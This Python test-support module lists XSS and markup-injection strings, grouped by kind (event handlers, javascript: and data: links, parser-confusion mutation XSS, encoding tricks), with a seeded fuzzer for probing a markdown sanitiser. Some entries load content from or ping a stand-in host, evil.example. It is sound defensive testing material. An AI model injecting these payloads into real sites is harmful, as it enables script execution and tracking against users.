"""Strings that try to get script, style, foreign requests or a false face through the markup pipeline.

`fired()` is what a browser page defines to count what runs.
"""

from collections.abc import Callable, Iterator
from html import escape
from random import Random
from typing import Final

VECTORS: Final[dict[str, tuple[str, ...]]] = {
    "elements that run or load": (
        "<script>fired()</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script/xss>fired()</script >",
        "<img src=x onerror=fired()>",
        '<img src=x:x onerror="fired()"/>',
        "<image src=x onerror=fired()>",
        "<svg onload=fired()>",
        "<svg/onload=fired()//",
        "<svg><script>fired()</script></svg>",
        "<svg><animate onbegin=fired() attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:fired()"><text>x</text></a></svg>',
        "<math><maction actiontype=statusline xlink:href=javascript:fired()>x</math>",
        '<iframe srcdoc="<script>parent.fired()</script>"></iframe>',
        "<iframe src=javascript:parent.fired()></iframe>",
        "<object data=javascript:fired()>",
        "<embed src=javascript:fired()>",
        "<video><source onerror=fired()></video>",
        "<audio src=x onerror=fired()>",
        "<video poster=https://evil.example/p.png></video>",
        "<input autofocus onfocus=fired()>",
        "<select autofocus onfocus=fired()>",
        "<textarea autofocus onfocus=fired()>",
        "<details open ontoggle=fired()>x</details>",
        "<body onload=fired()>",
        "<marquee onstart=fired()>x</marquee>",
        "<form><button formaction=javascript:fired()>x</button></form>",
        "<isindex type=image src=1 onerror=fired()>",
        '<meta http-equiv=refresh content="0;url=javascript:fired()">',
        "<base href=javascript:fired()//>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<template><img src=x onerror=fired()></template>",
        "<custom-element onclick=fired()>x</custom-element>",
    ),
    "attributes of allowed elements": (
        "<p onclick=fired() onpointerenter=fired()>x</p>",
        '<p style="background:url(https://evil.example/x)">x</p>',
        "<a href=https://x.example style=position:fixed;inset:0>x</a>",
        "<a id=cookie name=getElementById href=https://x.example>x</a>",
        '<span class="hl-k admin">x</span>',
        "<span class=hl-<script>>x</span>",
        '<code class="language-x onload=fired()">x</code>',
        "<p title='\"><img src=x onerror=fired()>'>x</p>",
        '<ol start="1 onclick=fired()"><li>x</ol>',
        "<td background=https://evil.example/x>x</td>",
        "<p lang=x dir=rtl tabindex=1 contenteditable accesskey=x>x</p>",
        "<a href=https://x.example ping=https://evil.example target=_top download>x</a>",
    ),
    "links": (
        "[x](javascript:fired())",
        "[x](JaVaScRiPt:fired())",
        "[x](javascript&colon;fired())",
        "[x](&#106;avascript:fired())",
        "[x](java%0ascript:fired())",
        "[x](<java\nscript:fired()>)",
        "[x](\x01javascript:fired())",
        "[x](javascript:123)",
        "[x](vbscript:fired())",
        "[x](data:text/html,<script>fired()</script>)",
        "[x](data:image/svg+xml;base64,PHN2Zy8+)",
        "[x](blob:https://x.example/1)",
        "[x](file:///etc/passwd)",
        "[x](urn:fired)",
        "[x](//evil.example)",
        "[x](/logout)",
        "[x](logout)",
        "[x](?a=b)",
        "[x](#a)",
        "[x](https:evil.example)",
        "[x](https:///evil.example)",
        "[x](http:\\\\evil.example)",
        "[x](https://bank.example@evil.example)",
        "[x](https://bank.example\\@evil.example)",
        '[x](https://x.example "t" onclick=fired())',
        '[x](https://x.example" onclick="fired())',
        "[x](https://x.example 'onclick=fired()')",
        '[x](<https://x.example" onclick=fired() ">)',
        "[x](mailto:a@b.example?bcc=c@d.example)",
        "[x]: javascript:fired()\n\n[x]",
        "<javascript:fired()>",
        "<javascript:123>",
        "<data:text/html,fired()>",
        "<a href=javascript:fired()>x</a>",
        "<a href=javascript:123>x</a>",
        '<a href="jav&#x09;ascript:fired()">x</a>',
        '<a href=" &#14; javascript:fired()">x</a>',
        '<a href="javascript&NewLine;:fired()">x</a>',
        '<a href="localhost:80">x</a>',
        '<a href="evil.example:80">x</a>',
        "<a href='https://x.example'onmouseover='fired()'>x</a>",
        "<a href=`https://x.example` onclick=fired()>x</a>",
        "<a/href=javascript:fired()>x</a>",
        "<a href=https://x.example/&quot;&gt;&lt;img/src=x/onerror=fired()&gt;>x</a>",
        'https://x.example/"onclick="fired()',
        "https://x.example/<img/src=x/onerror=fired()>",
        "https://x.example/'onclick='fired()",
        'http://[::1]"onclick=fired()',
        'www.x.example"onclick="fired()',
        "javascript://x.example/%0afired()",
        "javascript:https://x.example/%0afired()",
        'a"onclick=fired()@b.example',
        '"<img src=x onerror=fired()>"@b.example',
    ),
    "images": (
        "![x](https://evil.example/pixel.gif)",
        "![x](javascript:fired())",
        '![x"onerror="fired()](https://x.example/)',
        "![<img src=x onerror=fired()>](https://x.example/)",
        "[![x](https://x.example/a.png)](javascript:fired())",
        '![x](x "onerror=fired()")',
        "![[x](javascript:fired())](https://x.example/)",
    ),
    "code": (
        "`<img src=x onerror=fired()>`",
        "```\n<script>fired()</script>\n```",
        "```html\n<img src=x onerror=fired()>\n```",
        '```"onclick=fired()\nx\n```',
        '```js"><img src=x onerror=fired()>\nx\n```',
        "~~~ <script>\n</script><img src=x onerror=fired()>\n~~~",
        "    <img src=x onerror=fired()>",
        "```php\n<?php echo '</code><img src=x onerror=fired()>' ?>\n```",
    ),
    "parsers at odds": (
        '<noscript><p title="</noscript><img src=x onerror=fired()>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fired()&gt;">',
        '<svg></p><style><a id="</style><img src=1 onerror=fired()>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=fired()>",
        "<math><p><style><!--</style><img src=x onerror=fired()>--></p></math>",
        "<table><td><a href=https://x.example><table><a href=javascript:fired()>x",
        '<p><svg><desc><p><style><a title="</style><img src onerror=fired()>">',
        "<select><template><img src=x onerror=fired()></template></select>",
        "<!--><img src=x onerror=fired()>-->",
        "<!-- --!><img src=x onerror=fired()> -->",
        "<![CDATA[><img src=x onerror=fired()>]]>",
        "<?xml ?><img src=x onerror=fired()>",
        "<!DOCTYPE x [<!ENTITY e '<img src=x onerror=fired()>'>]>&e;",
        '<xmp><p title="</xmp><img src=x onerror=fired()>">',
        '<textarea><img title="</textarea><img src=x onerror=fired()>">',
        '<title><a href="</title><img src=x onerror=fired()>">',
        "<plaintext><img src=x onerror=fired()>",
        "<p<img src=x onerror=fired()>>",
        "<<img src=x onerror=fired()>",
        "<img src=x onerror=fired()",
        "</p/><img/src=x/onerror=fired()>",
        "<img\x00 src=x onerror=fired()>",
        "<\x00img src=x onerror=fired()>",
        "<img src=x onerror\x0b=fired()>",
        "&lt;img src=x onerror=fired()&gt;",
        "&amp;lt;img src=x onerror=fired()&amp;gt;",
        "&#60;img src=x onerror=fired()&#62;",
        "\\<img src=x onerror=fired()>",
        "<img src=x onerror=&#102;ired()>",
        "\uff1cimg src=x onerror=fired()\uff1e",
        "<b>\ud800<img src=x onerror=fired()>",
        "<pre>\n\n<img src=x onerror=fired()></pre>",
        "<p><table><p><img src=x onerror=fired()></table>",
    ),
    "plain words that must stay words": (
        "{{constructor.constructor('fired()')()}}",
        "${fired()}",
        "<% fired() %>",
        "javascript:fired()",
        "expression(fired())",
        "\u202efired\u202c",
    ),
}

_ODD: Final[list[str]] = [*"\x00\t\n\x0b\x0c\r /\\\"'`<>&;:=()[]!*_~|#\u00a0\u200b\u202e\u2028\ufeff\ud800"]
_AROUND: Final = (
    "> {}", "- {}", "1. {}", "# {}", "**{}**", "~~{}~~", "[{}](https://x.example)", "[x]({})",
    "![{}](https://x.example)",
    "<{}>", "`{}`", "```\n{}\n```", "|a|\n|-|\n|{}|", "{}\n===", "\\{}", "<p>{}</p>", "<table><tr><td>{}",
    "<a href=\"{}\">x</a>",
    "<svg>{}</svg>", "<!--{}-->", "https://x.example/{}",
)  # fmt: skip


def _insert(text: str, rng: Random) -> str:
    at = rng.randrange(len(text) + 1)
    return text[:at] + rng.choice(_ODD) + text[at:]


def _drop(text: str, rng: Random) -> str:
    at = rng.randrange(len(text) + 1)
    return text[:at] + text[at + 1 :]


def _refer(text: str, rng: Random) -> str:
    at = rng.randrange(len(text)) if text else 0
    form = rng.choice(["&#{:d};", "&#x{:x};", "&#{:d}", "&#0000{:d};"])
    return text[:at] + "".join(form.format(ord(char)) for char in text[at : at + 1]) + text[at + 1 :]


def _flip(text: str, rng: Random) -> str:
    return "".join(char.upper() if rng.random() < 0.5 else char for char in text)


def _wrap(text: str, rng: Random) -> str:
    around: str = rng.choice(_AROUND)
    return around.replace("{}", text)


def _splice(text: str, rng: Random) -> str:
    other = rng.choice(_ALL)
    return text[: rng.randrange(len(text) + 1)] + other[rng.randrange(len(other)) :]


def _escape(text: str, _: Random) -> str:
    return escape(text)


_ALL: Final = [vector for vectors in VECTORS.values() for vector in vectors]
_MUTATIONS: Final[list[Callable[[str, Random], str]]] = [
    _insert,
    _insert,
    _drop,
    _refer,
    _flip,
    _wrap,
    _wrap,
    _splice,
    _escape,
]


def attack(rng: Random) -> str:
    text = rng.choice(_ALL)
    for _ in range(rng.randrange(5)):
        text = rng.choice(_MUTATIONS)(text, rng)
    return text


def attacks(seed: int, count: int) -> Iterator[str]:
    """The same strings for the same seed: each vector once, then mutations."""
    rng = Random(seed)
    yield from _ALL[:count]
    for _ in range(count - len(_ALL)):
        yield attack(rng)
